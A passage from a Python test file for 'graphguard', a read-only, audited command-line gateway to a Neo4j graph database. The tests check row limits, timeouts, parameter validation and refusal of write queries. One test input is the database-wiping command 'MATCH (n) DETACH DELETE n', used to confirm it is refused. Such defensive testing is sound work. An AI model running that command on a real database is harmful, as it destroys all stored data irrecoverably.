                         "-p", f"id={N1['car']}", "--format", "json")
    assert code == 0, err
    assert json.loads(out) == [{"id": N1["car"]}]

    code, out, err = cli("run", "--query", "-", "--format", "csv", "--row-limit", "3",
                         input="UNWIND range(1, 5) AS x RETURN x")
    assert code == 0, err
    assert out.splitlines() == ["x", "1", "2", "3"]
    assert "showing the first 3 rows only" in err

    code, out, err = cli("run", "--query", "MATCH (n) DETACH DELETE n")
    assert code == 3 and out == ""
    assert err == "graphguard: error: DETACH is a write clause: liaison Cypher is read-only\n"

    code, out, err = cli("run", "young_people_near_adult", "-p", "adult_id=X", "-p",
                         "max_steps=9")
    assert code == 2 and "'max_steps'" in err

    code, out, err = cli("run", "--query", "UNWIND range(1, 1000000000) AS x RETURN count(x)",
                         "--timeout", "1")
    assert code == 3 and "timeout of 1 s" in err

    entries = read_audit(audit)
    assert len(entries) == 8
    assert {e["user"] for e in entries} == {audit_log.acting_user()}
    assert [e["outcome"] for e in entries] == [
        "ok", "ok", "ok", "ok", "ok", "refused", "error", "timeout",
    ]


def test_cli_unreachable_neo4j_exits_4(monkeypatch: pytest.MonkeyPatch) -> None:
    from graphguard.neo4j_local import free_port
    from graphguard.settings import get_settings

    monkeypatch.setenv("NEO4J_URI", f"bolt://127.0.0.1:{free_port()}")
    monkeypatch.setenv("NEO4J_PASSWORD", "nothing-listens")
    get_settings.cache_clear()
    code, _, err = cli("run", "found_after_missing")
    assert code == 4 and "cannot reach Neo4j" in err
